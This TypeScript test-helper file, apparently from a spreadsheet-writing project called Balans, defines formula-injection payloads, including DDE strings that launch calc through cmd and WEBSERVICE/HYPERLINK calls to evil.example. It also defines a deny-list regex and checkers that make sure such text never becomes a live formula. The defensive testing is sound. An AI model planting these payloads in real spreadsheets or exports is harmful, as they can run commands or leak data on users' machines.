/**
 * Text crafted to do harm when a spreadsheet takes it for a formula: formula and DDE
 * prefixes, web requests, links out. Balans must write such text as text, and nothing of
 * it may reach a formula except inside a string literal.
 */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example","x")',
  '=WEBSERVICE("http://evil.example")',
  "=cmd|' /C calc'!A0",
  "@SUM(1)",
  "+1",
  "-1",
  "'=1'",
  "=1+1",
  '=DDE("cmd";"/C calc";"x")',
  "\t=2+3",
] as const;

/** Sheet names may not hold `/ \ ? * [ ] :` nor begin or end with `'`: these are hostile and allowed. */
export const HOSTILE_SHEET_NAMES = ["=cmd|' C calc'!A0", "@SUM(1)", "+1", "-1", "=1+1", '=HYPERLINK("#x","y")'] as const;

/** What a formula written by Balans may not contain outside string literals and quoted sheet names. */
const FORBIDDEN = /WEBSERVICE|FILTERXML|\bDDE\b|DDEAUTO|cmd|evil\.example|@|\||\[|RTD\(|CALL\(|REGISTER|EXEC/i;

/** The formula with its string literals and quoted sheet names blanked out. */
export function withoutLiterals(formula: string): string {
  return formula.replace(/"(?:[^"]|"")*"/g, '""').replace(/'(?:[^']|'')*'!/g, "''!");
}

/** What is wrong with a formula Balans wrote, judged from its text: an empty list when nothing is. */
export function formulaProblems(formula: string): string[] {
  const problems: string[] = [];
  const code = withoutLiterals(formula.replace(/^=/, ""));
  if (FORBIDDEN.test(code)) problems.push(`forbidden call or operator in ${formula}`);
  // A link made by Balans goes inside the workbook: its target is a literal starting with #.
  for (const m of formula.matchAll(/HYPERLINK\(\s*("(?:[^"]|"")*"|[^,)]*)/gi)) {
    if (!/^"#/.test(m[1])) problems.push(`link out of the workbook in ${formula}`);
  }
  return problems;
}

/** Whether a written text is one of the hostile ones (or holds one). */
export function isHostile(text: string): boolean {
  // The reader trims cell text, so a hostile text may arrive without its leading tab.
  return HOSTILE_TEXTS.some((hostile) => text.includes(hostile.trim())) || HOSTILE_SHEET_NAMES.some((name) => text === name);
}
